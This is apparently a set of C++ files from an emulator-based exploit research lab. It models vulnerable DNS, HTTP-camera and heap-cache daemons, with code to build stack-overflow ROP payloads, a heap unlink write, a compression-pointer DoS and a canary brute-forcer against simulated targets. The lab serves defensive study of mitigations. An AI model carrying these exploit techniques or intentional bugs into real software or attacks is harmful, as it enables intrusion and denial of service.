namespace connlab::adapt {

namespace {

/// Host safety net only: the guest stack faults long before this (the
/// largest stack maps ~2k frames), so hitting it means a layout bug, not
/// the simulated DoS.
constexpr std::uint32_t kHostHopCeiling = 1u << 20;

}  // namespace

util::Bytes Resolvd::SelfPointerQuery(std::uint16_t id) {
  util::ByteWriter w;
  w.WriteU16BE(id);
  w.WriteU16BE(0x0100);  // rd, qr=0
  w.WriteU16BE(1);       // qdcount
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  // Question name at offset 12: a pointer to offset 12 — itself.
  w.WriteU8(0xC0);
  w.WriteU8(0x0C);
  w.WriteU16BE(1);  // qtype A
  w.WriteU16BE(1);  // qclass IN
  return std::move(w).Take();
}

util::Bytes Resolvd::WildPointerQuery(std::uint16_t id) {
  util::ByteWriter w;
  w.WriteU16BE(id);
  w.WriteU16BE(0x0100);
  w.WriteU16BE(1);
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  // Pointer to offset 0x3FF0: far past the packet and the receive segment.
  w.WriteU8(0xFF);
  w.WriteU8(0xF0);
  w.WriteU16BE(1);
  w.WriteU16BE(1);
  return std::move(w).Take();
}

ServiceOutcome Resolvd::HandleQuery(util::ByteSpan wire) {
  ServiceOutcome outcome;
  last_hops_ = 0;
  last_expanded_ = 0;
  if (wire.size() < dns::kHeaderSize) {
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "short packet";
    return outcome;
  }
  if ((wire[2] & 0x80) != 0) {
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "not a query";
    return outcome;
  }
  const std::uint16_t qdcount =
      static_cast<std::uint16_t>((wire[4] << 8) | wire[5]);
  if (qdcount == 0) {
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "no question";
    return outcome;
  }

  auto& space = sys_.space;
  const mem::GuestAddr rx = sys_.layout.scratch_base;
  if (wire.size() > sys_.layout.scratch_size) {
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "packet larger than receive buffer";
    return outcome;
  }
  if (!space.WriteBytes(rx, wire).ok()) {
    outcome.detail = "failed to stage packet";
    return outcome;
  }

  // The recursive expansion. Every label and every pointer hop "recurses":
  // a kFrameBytes frame lands on the guest stack, and the packet offset is
  // re-read through guest memory — exactly the two resources the missing
  // guards are supposed to protect (stack depth, packet bounds).
  std::uint32_t pos = dns::kHeaderSize;
  mem::GuestAddr sp = sys_.layout.initial_sp();
  const util::Bytes frame(kFrameBytes, 0);
  while (last_hops_ < kHostHopCeiling) {
    auto len = space.ReadU8(rx + pos);
    if (!len.ok()) {
      outcome.kind = ServiceOutcome::Kind::kCrash;
      outcome.detail = "compression pointer read out of bounds at offset " +
                       std::to_string(pos);
      outcome.stop.reason = vm::StopReason::kFault;
      outcome.stop.fault = space.last_fault();
      space.ClearFault();
      return outcome;
    }
    if (len.value() == 0) break;

    // "Recurse": push a frame. When the stack mapping runs out, this is
    // the stack-exhaustion write fault the pointer loop drives.
    sp -= kFrameBytes;
    if (!space.WriteBytes(sp, frame).ok() || !space.WriteU32(sp, pos).ok()) {
      outcome.kind = ServiceOutcome::Kind::kCrash;
      outcome.detail = "recursive expansion exhausted the stack after " +
                       std::to_string(last_hops_) + " frames";
      outcome.stop.reason = vm::StopReason::kFault;
      outcome.stop.fault = space.last_fault();
      space.ClearFault();
      return outcome;
    }
    ++last_hops_;

    if ((len.value() & dns::kCompressionFlags) == dns::kCompressionFlags) {
      auto lo = space.ReadU8(rx + pos + 1);
      if (!lo.ok()) {
        outcome.kind = ServiceOutcome::Kind::kCrash;
        outcome.detail = "truncated compression pointer";
        outcome.stop.reason = vm::StopReason::kFault;
        outcome.stop.fault = space.last_fault();
        space.ClearFault();
        return outcome;
      }
      // The bug: no visited-set, no hop budget — follow unconditionally.
      pos = (static_cast<std::uint32_t>(len.value() & 0x3F) << 8) |
            lo.value();
      continue;
    }
    last_expanded_ += len.value() + 1u;
    pos += 1u + len.value();
  }

  // Benign completion: hand the expanded name to the guest resume path so
  // the run produces real guest coverage.
  auto resume = sys_.Sym("connman.resume_ok");
  if (!resume.ok()) {
    outcome.detail = "resume symbol missing";
    return outcome;
  }
  auto& cpu = *sys_.cpu;
  cpu.ClearEvents();
  cpu.set_sp(sys_.layout.initial_sp());
  cpu.set_pc(resume.value());
  outcome = ServiceOutcomeFromStop(cpu.Run(budget_));
  if (outcome.kind == ServiceOutcome::Kind::kOk) {
    outcome.detail = "name expanded: " + std::to_string(last_expanded_) +
                     " bytes in " + std::to_string(last_hops_) + " steps";
  }
  return outcome;
}

util::Result<exploit::TargetProfile> Resolvd::ProfileFor() const {
  exploit::TargetProfile profile;
  profile.arch = sys_.arch;
  profile.prot = sys_.prot;
  profile.buffer_addr = sys_.layout.scratch_base;
  return profile;
}

}  // namespace connlab::adapt
