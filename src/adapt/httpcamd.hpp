// "httpcamd" — an HTTP-flavoured IP-camera daemon with a body-copy
// overflow (CVE-2019-8985 analogue), reproducing §V's second claim: with
// *moderate* modification — swap the packet-crafting layer from DNS to
// HTTP — the same exploit generation approach lands on protocol-based
// overflows generally.
//
// The parser trusts Content-Length and memcpy's the request body into a
// 256-byte stack buffer. Unlike the DNS vector there is no label
// interleaving: the body bytes land verbatim (the constraint that changes
// is the protocol framing, not the payload arithmetic).
#pragma once

#include <string>

#include "src/adapt/minimasq.hpp"  // ServiceOutcome
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"

namespace connlab::adapt {

class HttpCamd {
 public:
  static constexpr std::uint32_t kBufSize = 256;
  static constexpr std::uint32_t kLocals = 8;

  explicit HttpCamd(loader::System& sys);

  [[nodiscard]] std::uint32_t ret_offset() const noexcept;

  /// Parses and "handles" one HTTP/1.0 request. A benign request gets a
  /// 200; an oversized body smashes the handler's frame.
  ServiceOutcome HandleRequest(util::ByteSpan request);

  /// TargetProfile for this service (the §V "changed variables").
  [[nodiscard]] util::Result<exploit::TargetProfile> ProfileFor() const;

  /// Wraps a raw overflow payload in a valid POST request.
  static util::Bytes WrapInRequest(util::ByteSpan payload,
                                   const std::string& path = "/camera/config");

  [[nodiscard]] const std::string& last_response() const noexcept {
    return last_response_;
  }

 private:
  loader::System& sys_;
  mem::GuestAddr frame_base_;
  std::string last_response_;
  std::uint64_t budget_ = 200000;
};

}  // namespace connlab::adapt
