// "camstored" — an HTTP-ish camera-config cache daemon built on the guest
// heap (src/heap/): PUT bodies are cached in GuestHeap chunks, and the
// daemon trusts the client's X-Record-Size header for the allocation while
// copying Content-Length bytes — the attacker-sized heap write. An
// oversized body overwrites the next chunk's boundary tags in guest
// memory, and the following free drives the classic dlmalloc unlink
// (mem[fd+16]=bk / mem[bk+12]=fd): an allocator-powered arbitrary write
// aimed at the daemon's flush-hook function pointer. With the heap mapped
// executable (no W^X) the hook pivots into heap-resident shellcode; the
// heap-integrity mitigation detects the corrupted tags at free time
// instead and raises the HeapCorruption stop.
#pragma once

#include <map>
#include <string>

#include "src/adapt/minimasq.hpp"
#include "src/exploit/profile.hpp"
#include "src/heap/heap.hpp"
#include "src/loader/boot.hpp"

namespace connlab::adapt {

class Camstored {
 public:
  /// Payload bytes of the daemon state block — the first heap allocation,
  /// holding the flush hook (offset 0) and the record counter (offset 4).
  static constexpr std::uint32_t kStateBytes = 24;
  /// Chunk size that allocation occupies (header + payload, aligned).
  static constexpr std::uint32_t kStateChunk = 40;
  /// The daemon's record-table capacity.
  static constexpr std::size_t kMaxRecords = 8;

  explicit Camstored(loader::System& sys);

  /// Handles one request. Verbs: "GET /..." (status), "PUT /cache/<name>"
  /// with X-Record-Size + Content-Length headers, "DELETE /cache/<name>".
  ServiceOutcome HandleRequest(util::ByteSpan request);

  /// Profile for the heap-metadata exploit builder: arch/prot plus the
  /// flush-hook slot and the first user-chunk address (both static — the
  /// heap base is not randomised).
  [[nodiscard]] util::Result<exploit::TargetProfile> ProfileFor() const;

  /// Builds a PUT request wire: the attacker-visible protocol surface.
  static util::Bytes WrapInPut(util::ByteSpan body, const std::string& name,
                               std::uint32_t record_size);
  static util::Bytes WrapInDelete(const std::string& name);

  /// Guest address of the flush-hook slot (state-block payload offset 0).
  [[nodiscard]] mem::GuestAddr HookSlot() const noexcept {
    return heap_.FirstChunk() + heap::GuestHeap::kHeaderSize;
  }
  /// Guest address of the first user chunk (right after the state block).
  [[nodiscard]] mem::GuestAddr UserBase() const noexcept {
    return heap_.FirstChunk() + kStateChunk;
  }

  [[nodiscard]] heap::GuestHeap& heap() noexcept { return heap_; }
  [[nodiscard]] loader::System& system() noexcept { return sys_; }
  [[nodiscard]] const std::string& last_response() const noexcept {
    return last_response_;
  }

 private:
  ServiceOutcome HandlePut(const std::string& name, util::ByteSpan body,
                           std::uint32_t record_size);
  ServiceOutcome HandleDelete(const std::string& name);
  /// Frees a payload and classifies allocator failures (heap-integrity
  /// aborts vs unlink writes into unmapped memory).
  ServiceOutcome FreeRecord(mem::GuestAddr payload);
  /// The daemon's post-update flush: an indirect call through the hook
  /// slot — the forward-edge pivot the unlink write retargets.
  ServiceOutcome CallFlushHook();

  loader::System& sys_;
  heap::GuestHeap heap_;
  std::map<std::string, mem::GuestAddr> records_;  // name -> payload addr
  std::string last_response_;
  std::uint64_t budget_ = 200000;
};

}  // namespace connlab::adapt
