#include "src/adapt/httpcamd.hpp"

#include <cstdlib>

#include "src/gadget/finder.hpp"
#include "src/gadget/memstr.hpp"
#include "src/isa/varm.hpp"

namespace connlab::adapt {

HttpCamd::HttpCamd(loader::System& sys) : sys_(sys) {
  frame_base_ = sys_.layout.initial_sp() - (ret_offset() + 4);
}

std::uint32_t HttpCamd::ret_offset() const noexcept {
  const std::uint32_t saved = sys_.arch == isa::Arch::kVX86 ? 16u : 32u;
  return kBufSize + kLocals + saved;
}

util::Bytes HttpCamd::WrapInRequest(util::ByteSpan payload,
                                    const std::string& path) {
  util::ByteWriter w;
  w.WriteString("POST " + path + " HTTP/1.0\r\n");
  w.WriteString("Host: camera.lan\r\n");
  w.WriteString("Content-Length: " + std::to_string(payload.size()) + "\r\n");
  w.WriteString("\r\n");
  w.WriteBytes(payload);
  return std::move(w).Take();
}

ServiceOutcome HttpCamd::HandleRequest(util::ByteSpan request) {
  ServiceOutcome outcome;
  last_response_.clear();
  const std::string text(request.begin(), request.end());

  // Request line + headers end at the first blank line.
  const std::size_t headers_end = text.find("\r\n\r\n");
  if (headers_end == std::string::npos || text.compare(0, 5, "POST ") != 0) {
    if (text.compare(0, 4, "GET ") == 0) {
      last_response_ = "HTTP/1.0 200 OK\r\n\r\ncamd ready";
      outcome.kind = ServiceOutcome::Kind::kOk;
      outcome.detail = "GET served";
      return outcome;
    }
    last_response_ = "HTTP/1.0 400 Bad Request\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "malformed request";
    return outcome;
  }
  const std::size_t clen_pos = text.find("Content-Length:");
  if (clen_pos == std::string::npos || clen_pos > headers_end) {
    last_response_ = "HTTP/1.0 411 Length Required\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "no content-length";
    return outcome;
  }
  // The bug: Content-Length is trusted, the body is memcpy'd into a
  // 256-byte stack buffer.
  const std::size_t content_length = static_cast<std::size_t>(
      std::strtoul(text.c_str() + clen_pos + 15, nullptr, 10));
  const std::size_t body_start = headers_end + 4;
  const std::size_t body_avail = request.size() - body_start;
  const std::size_t body_len =
      content_length < body_avail ? content_length : body_avail;

  auto& space = sys_.space;
  const std::uint32_t region = sys_.layout.stack_top - frame_base_;
  if (!space.WriteBytes(frame_base_, util::Bytes(region, 0)).ok()) {
    outcome.detail = "failed to stage frame";
    return outcome;
  }
  auto resume = sys_.Sym("connman.resume_ok");
  if (!resume.ok() ||
      !space.WriteU32(frame_base_ + ret_offset(), resume.value()).ok()) {
    outcome.detail = "failed to plant return";
    return outcome;
  }

  const util::ByteSpan body(request.data() + body_start, body_len);
  if (!space.WriteBytes(frame_base_, body).ok()) {
    outcome.kind = ServiceOutcome::Kind::kCrash;
    outcome.detail = "body copy ran off the stack";
    outcome.stop.reason = vm::StopReason::kFault;
    outcome.stop.fault = space.last_fault();
    space.ClearFault();
    return outcome;
  }

  // Handler returns through the guest frame.
  auto& cpu = *sys_.cpu;
  cpu.ClearEvents();
  if (sys_.arch == isa::Arch::kVARM) {
    for (int i = 0; i < 8; ++i) {
      cpu.set_reg(static_cast<std::uint8_t>(isa::kR4 + i),
                  space.ReadU32(frame_base_ + kBufSize + kLocals +
                                4 * static_cast<std::uint32_t>(i))
                      .value_or(0));
    }
  }
  auto ret = space.ReadU32(frame_base_ + ret_offset());
  if (!ret.ok()) {
    outcome.detail = "return slot unreadable";
    return outcome;
  }
  cpu.set_sp(frame_base_ + ret_offset() + 4);
  cpu.set_pc(ret.value());
  outcome = ServiceOutcomeFromStop(cpu.Run(budget_));
  if (outcome.kind == ServiceOutcome::Kind::kOk) {
    last_response_ = "HTTP/1.0 200 OK\r\n\r\nconfig updated";
    outcome.detail = "request served";
  }
  return outcome;
}

util::Result<exploit::TargetProfile> HttpCamd::ProfileFor() const {
  exploit::TargetProfile profile;
  profile.arch = sys_.arch;
  profile.prot = sys_.prot;
  profile.ret_offset = ret_offset();
  profile.buffer_addr = frame_base_;
  CONNLAB_ASSIGN_OR_RETURN(profile.plt_memcpy, sys_.Sym("plt.memcpy"));
  CONNLAB_ASSIGN_OR_RETURN(profile.plt_execlp, sys_.Sym("plt.execlp"));
  CONNLAB_ASSIGN_OR_RETURN(profile.bss, sys_.Sym("bss.start"));
  CONNLAB_ASSIGN_OR_RETURN(profile.libc_system, sys_.Sym("libc.system"));
  CONNLAB_ASSIGN_OR_RETURN(profile.libc_exit, sys_.Sym("libc.exit"));
  CONNLAB_ASSIGN_OR_RETURN(profile.libc_binsh, sys_.Sym("libc.str.bin_sh"));
  gadget::Finder finder(sys_);
  if (sys_.arch == isa::Arch::kVX86) {
    CONNLAB_ASSIGN_OR_RETURN(gadget::Gadget pppr, finder.FindPopRet(4));
    profile.gadget_pop_ret4 = pppr.addr;
  } else {
    const std::uint16_t need = isa::varm::Mask(
        {isa::kR0, isa::kR1, isa::kR2, isa::kR3, isa::kR5, isa::kR6, isa::kR7});
    CONNLAB_ASSIGN_OR_RETURN(gadget::Gadget pops, finder.FindPopRegsPc(need));
    profile.gadget_pop_regs = pops.addr;
    profile.gadget_pop_mask = pops.instrs.front().reg_mask;
    CONNLAB_ASSIGN_OR_RETURN(gadget::Gadget blx, finder.FindBlx(isa::kR3));
    profile.gadget_blx_r3 = blx.addr;
  }
  gadget::MemStr memstr(sys_);
  for (char c : std::string("/bin/sh")) {
    CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr addr, memstr.FindChar(c));
    profile.char_addrs[c] = addr;
  }
  return profile;
}

}  // namespace connlab::adapt
