#include "src/adapt/retarget.hpp"

#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"

namespace connlab::adapt {

std::string AdaptResult::ToString() const {
  std::string out = service + " (" + std::string(isa::ArchName(arch)) + ", " +
                    prot.ToString() + ") via " +
                    std::string(exploit::TechniqueName(technique)) + ": " +
                    std::string(ServiceOutcomeKindName(kind));
  if (!detail.empty()) out += " — " + detail;
  return out;
}

util::Result<AdaptResult> AttackMinimasq(
    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
    std::optional<exploit::Technique> technique) {
  AdaptResult result;
  result.service = "minimasq";
  result.arch = arch;
  result.prot = prot;
  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  Minimasq service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
  exploit::ExploitGenerator generator(profile);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                           generator.BuildImage(result.technique));
  result.payload_bytes = image.size();
  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels, dns::CutIntoLabels(image));

  dns::Message query = dns::Message::Query(0x4444, "adapt.example");
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
  CONNLAB_RETURN_IF_ERROR(service.ForwardQuery(qwire));
  dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
  ServiceOutcome outcome = service.HandleReply(rwire);
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

util::Result<AdaptResult> AttackHttpCamd(
    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
    std::optional<exploit::Technique> technique) {
  AdaptResult result;
  result.service = "httpcamd";
  result.arch = arch;
  result.prot = prot;
  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  HttpCamd service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
  exploit::ExploitGenerator generator(profile);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                           generator.BuildImage(result.technique));
  result.payload_bytes = image.size();

  // HTTP delivery: the body bytes are the payload verbatim — no label
  // interleaving, just a different wrapper.
  const util::Bytes request = HttpCamd::WrapInRequest(image.bytes());
  ServiceOutcome outcome = service.HandleRequest(request);
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

}  // namespace connlab::adapt
