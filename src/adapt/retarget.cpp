#include "src/adapt/retarget.hpp"

#include "src/adapt/camstored.hpp"
#include "src/adapt/resolvd.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/heap_smash.hpp"

namespace connlab::adapt {

std::string AdaptResult::ToString() const {
  std::string out = service + " (" + std::string(isa::ArchName(arch)) + ", " +
                    prot.ToString() + ") via " +
                    std::string(exploit::TechniqueName(technique)) + ": " +
                    std::string(ServiceOutcomeKindName(kind));
  if (!detail.empty()) out += " — " + detail;
  return out;
}

util::Result<AdaptResult> AttackMinimasq(
    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
    std::optional<exploit::Technique> technique) {
  AdaptResult result;
  result.service = "minimasq";
  result.arch = arch;
  result.prot = prot;
  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  Minimasq service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
  exploit::ExploitGenerator generator(profile);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                           generator.BuildImage(result.technique));
  result.payload_bytes = image.size();
  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels, dns::CutIntoLabels(image));

  dns::Message query = dns::Message::Query(0x4444, "adapt.example");
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
  CONNLAB_RETURN_IF_ERROR(service.ForwardQuery(qwire));
  dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
  ServiceOutcome outcome = service.HandleReply(rwire);
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

util::Result<AdaptResult> AttackHttpCamd(
    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
    std::optional<exploit::Technique> technique) {
  AdaptResult result;
  result.service = "httpcamd";
  result.arch = arch;
  result.prot = prot;
  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  HttpCamd service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
  exploit::ExploitGenerator generator(profile);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                           generator.BuildImage(result.technique));
  result.payload_bytes = image.size();

  // HTTP delivery: the body bytes are the payload verbatim — no label
  // interleaving, just a different wrapper.
  const util::Bytes request = HttpCamd::WrapInRequest(image.bytes());
  ServiceOutcome outcome = service.HandleRequest(request);
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

util::Result<AdaptResult> AttackResolvd(isa::Arch arch,
                                        const loader::ProtectionConfig& prot,
                                        std::uint64_t seed) {
  AdaptResult result;
  result.service = "resolvd";
  result.arch = arch;
  result.prot = prot;
  result.technique = exploit::Technique::kPointerLoopDos;

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  Resolvd service(*sys);
  const util::Bytes query = Resolvd::SelfPointerQuery(0x1007);
  result.payload_bytes = query.size();
  ServiceOutcome outcome = service.HandleQuery(query);
  result.kind = outcome.kind;
  result.shell = false;  // control-flow-free: the crash *is* the payoff
  result.detail = outcome.detail;
  return result;
}

util::Result<AdaptResult> AttackCamstored(isa::Arch arch,
                                          const loader::ProtectionConfig& prot,
                                          std::uint64_t seed) {
  AdaptResult result;
  result.service = "camstored";
  result.arch = arch;
  result.prot = prot;
  result.technique = exploit::Technique::kHeapUnlinkWrite;

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  Camstored service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile,
                           service.ProfileFor());
  CONNLAB_ASSIGN_OR_RETURN(exploit::HeapUnlinkPlan plan,
                           exploit::BuildHeapUnlinkPlan(profile));
  result.payload_bytes = plan.overflow_body.size();

  // The groom phase must go through cleanly; anything else means the heap
  // layout drifted and the plan's addresses are stale.
  const util::Bytes volley[3] = {
      Camstored::WrapInPut(plan.benign_body, "pad", plan.groom_size),
      Camstored::WrapInPut(plan.victim_body, "vic", plan.victim_size),
      Camstored::WrapInPut(plan.overflow_body, "pad", plan.groom_size),
  };
  for (const util::Bytes& request : volley) {
    ServiceOutcome staged = service.HandleRequest(request);
    if (staged.kind != ServiceOutcome::Kind::kOk) {
      result.kind = staged.kind;
      result.detail = "groom request failed: " + staged.detail;
      return result;
    }
  }
  // The delete frees the victim whose boundary tags now point at the fake
  // chunk — the allocator performs the unlink write, the flush hook fires.
  ServiceOutcome outcome =
      service.HandleRequest(Camstored::WrapInDelete("vic"));
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

exploit::FailureCause DiagnoseZooFailure(exploit::Technique technique,
                                         const loader::ProtectionConfig& prot,
                                         ServiceOutcome::Kind kind) {
  using Kind = ServiceOutcome::Kind;
  if (kind == Kind::kShell) return exploit::FailureCause::kNone;
  if (technique == exploit::Technique::kPointerLoopDos) {
    // The DoS has no shell stage: the crash is the success condition, and
    // nothing in the mitigation matrix intercepts a plain resource crash.
    return kind == Kind::kCrash ? exploit::FailureCause::kNone
                                : exploit::FailureCause::kOther;
  }
  if (kind == Kind::kAbort) return exploit::FailureCause::kHeapIntegrityTrap;
  if (kind == Kind::kCrash && prot.wx) return exploit::FailureCause::kNxHeap;
  return exploit::FailureCause::kOther;
}

}  // namespace connlab::adapt
