// §V orchestration: point the Connman exploit generator at the adapted
// targets and report what happened.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "src/adapt/httpcamd.hpp"
#include "src/adapt/minimasq.hpp"
#include "src/exploit/generator.hpp"

namespace connlab::adapt {

struct AdaptResult {
  std::string service;       // "minimasq" / "httpcamd"
  isa::Arch arch = isa::Arch::kVX86;
  loader::ProtectionConfig prot;
  exploit::Technique technique = exploit::Technique::kDosCrash;
  ServiceOutcome::Kind kind = ServiceOutcome::Kind::kOther;
  bool shell = false;
  std::string detail;
  std::size_t payload_bytes = 0;

  [[nodiscard]] std::string ToString() const;
};

/// Fires the matching technique (or `technique` if set) at a fresh
/// minimasq instance, delivering over DNS.
util::Result<AdaptResult> AttackMinimasq(
    isa::Arch arch, const loader::ProtectionConfig& prot,
    std::uint64_t seed = 3000,
    std::optional<exploit::Technique> technique = std::nullopt);

/// Same against httpcamd, delivering over HTTP (the "moderate
/// modification": only the packet-crafting layer changes).
util::Result<AdaptResult> AttackHttpCamd(
    isa::Arch arch, const loader::ProtectionConfig& prot,
    std::uint64_t seed = 3000,
    std::optional<exploit::Technique> technique = std::nullopt);

}  // namespace connlab::adapt
