// §V orchestration: point the Connman exploit generator at the adapted
// targets and report what happened.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "src/adapt/httpcamd.hpp"
#include "src/adapt/minimasq.hpp"
#include "src/exploit/generator.hpp"

namespace connlab::adapt {

struct AdaptResult {
  std::string service;       // "minimasq" / "httpcamd"
  isa::Arch arch = isa::Arch::kVX86;
  loader::ProtectionConfig prot;
  exploit::Technique technique = exploit::Technique::kDosCrash;
  ServiceOutcome::Kind kind = ServiceOutcome::Kind::kOther;
  bool shell = false;
  std::string detail;
  std::size_t payload_bytes = 0;

  [[nodiscard]] std::string ToString() const;
};

/// Fires the matching technique (or `technique` if set) at a fresh
/// minimasq instance, delivering over DNS.
util::Result<AdaptResult> AttackMinimasq(
    isa::Arch arch, const loader::ProtectionConfig& prot,
    std::uint64_t seed = 3000,
    std::optional<exploit::Technique> technique = std::nullopt);

/// Same against httpcamd, delivering over HTTP (the "moderate
/// modification": only the packet-crafting layer changes).
util::Result<AdaptResult> AttackHttpCamd(
    isa::Arch arch, const loader::ProtectionConfig& prot,
    std::uint64_t seed = 3000,
    std::optional<exploit::Technique> technique = std::nullopt);

/// Pointer-loop DoS against resolvd: one self-referential compression
/// pointer, unbounded recursion, stack exhaustion. Control-flow-free, so a
/// *crash* is the attack succeeding — there is no shell to pop.
util::Result<AdaptResult> AttackResolvd(isa::Arch arch,
                                        const loader::ProtectionConfig& prot,
                                        std::uint64_t seed = 3000);

/// Heap-metadata overwrite against camstored: the four-request unlink
/// volley from exploit/heap_smash (groom, victim, overflow, delete).
util::Result<AdaptResult> AttackCamstored(isa::Arch arch,
                                          const loader::ProtectionConfig& prot,
                                          std::uint64_t seed = 3000);

/// Failure diagnosis for the bug-class zoo, where the stack-centric
/// exploit::DiagnoseFailure does not apply: heap-integrity aborts, W^X
/// heap pivots, and DoS-by-design crashes.
exploit::FailureCause DiagnoseZooFailure(exploit::Technique technique,
                                         const loader::ProtectionConfig& prot,
                                         ServiceOutcome::Kind kind);

}  // namespace connlab::adapt
