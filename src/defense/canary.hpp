// The stack protector as a deployable mitigation, with the knob the paper's
// victims lacked: how much entropy the per-boot canary actually carries.
// Real Connman builds get a full 32-bit guard (minus the terminator-byte
// convention); cost-down IoT firmware has shipped with narrowed or static
// guards, so the lab exposes `entropy_bits` and an empirical brute-forcer
// that measures exactly how many response volleys a narrowed canary
// survives — the brute-force-resistance curve for E12.
#pragma once

#include <cstdint>

#include "src/defense/mitigation.hpp"

namespace connlab::defense {

class StackCanary : public Mitigation {
 public:
  explicit StackCanary(int entropy_bits = 32) : entropy_bits_(entropy_bits) {}

  [[nodiscard]] DefenseKind kind() const noexcept override {
    return DefenseKind::kStackCanary;
  }
  [[nodiscard]] std::string_view name() const noexcept override {
    return "canary";
  }

  /// Boots the victim with prot.canary at this entropy width.
  void Configure(loader::ProtectionConfig& prot) const override;

  /// Verifies the boot actually drew a guard value.
  util::Status Arm(loader::System& sys) const override;

  [[nodiscard]] std::string Describe() const override;

  [[nodiscard]] int entropy_bits() const noexcept { return entropy_bits_; }

  /// Mean number of overflow attempts before a blind brute force recovers
  /// the guard: half the 2^bits search space.
  [[nodiscard]] double ExpectedBruteForceAttempts() const noexcept;

 private:
  int entropy_bits_;
};

struct CanaryBruteForceReport {
  bool recovered = false;    // a guess survived the canary check
  std::uint32_t canary = 0;  // the surviving guard value
  std::uint64_t attempts = 0;  // malicious responses fired
  std::uint64_t aborts = 0;    // __stack_chk_fail traps observed
  bool shell = false;  // the surviving volley also carried the exploit home
};

/// Empirically brute-forces a narrowed canary against one booted victim:
/// boots arch + W^X + canary(entropy_bits), builds the W^X-level exploit
/// from a lab profile, and fires it once per candidate guard value with the
/// 4-byte guess spliced in at the canary slot (every later frame offset
/// shifts by 4, exactly what the stack protector does to the layout). Each
/// abort is the oracle "wrong guess"; the first volley that survives the
/// check rides the intact exploit to a shell. Only narrowed canaries
/// (entropy_bits <= 24) are accepted — a full-width guard is the point of
/// the defense, and enumerating 2^32 volleys is the attack cost report E12
/// exists to show.
util::Result<CanaryBruteForceReport> BruteForceCanary(
    isa::Arch arch, int entropy_bits, std::uint64_t target_seed,
    std::uint64_t max_attempts);

}  // namespace connlab::defense
