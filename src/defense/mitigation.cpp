#include "src/defense/mitigation.hpp"

#include "src/defense/canary.hpp"
#include "src/defense/cfi.hpp"
#include "src/defense/diversity.hpp"
#include "src/defense/heap_integrity.hpp"

namespace connlab::defense {

std::string_view DefenseKindName(DefenseKind kind) noexcept {
  switch (kind) {
    case DefenseKind::kStackCanary: return "stack-canary";
    case DefenseKind::kShadowStackCfi: return "shadow-stack-cfi";
    case DefenseKind::kStochasticDiversity: return "stochastic-diversity";
    case DefenseKind::kHeapIntegrity: return "heap-integrity";
  }
  return "?";
}

util::Status Mitigation::Arm(loader::System& sys) const {
  (void)sys;
  return util::OkStatus();
}

std::shared_ptr<const Mitigation> MakeMitigation(DefenseKind kind) {
  switch (kind) {
    case DefenseKind::kStackCanary:
      return std::make_shared<StackCanary>();
    case DefenseKind::kShadowStackCfi:
